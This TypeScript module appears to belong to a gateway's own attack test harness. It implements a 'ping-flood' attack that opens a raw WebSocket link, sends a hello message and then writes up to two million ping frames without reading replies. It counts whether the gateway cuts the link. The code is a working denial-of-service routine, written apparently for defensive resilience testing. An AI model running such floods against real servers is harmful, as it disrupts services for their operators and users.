// A device sends WebSocket pings as fast as it can and reads no answer: every pong waits in the gateway.

import { formatFrame } from '../attacker/web-socket-frame.ts'
import { openRawLink } from '../attacker/raw-link.ts'
import type { Attack } from '../attack.ts'

const PINGS = 2_000_000
const AT_ONCE = 10_000
const HELLO = '{"type":"hello","protocols":[1],"app":"a","boot":"b","engine":"e","models":[]}'

export const pingFlood: Attack = {
  name: 'ping-flood',
  from: 'outside',
  async run({ origin, credentials: [credential = ''] }, tally) {
    const { socket, closed } = await openRawLink(origin, credential, false)
    socket.write(formatFrame(HELLO, { opcode: 1 }), 'latin1')
    const pings = Buffer.from(formatFrame('\0'.repeat(125), { opcode: 9 }).repeat(AT_ONCE), 'latin1')
    for (let sent = 0; sent < PINGS && !socket.destroyed; sent += AT_ONCE) {
      const written = Promise.withResolvers<void>()
      socket.write(pings, () => written.resolve())
      await Promise.race([written.promise, closed])
      tally.count('pings', AT_ONCE)
    }
    tally.count(socket.destroyed ? 'cut' : 'still linked')
    socket.destroy()
  },
}
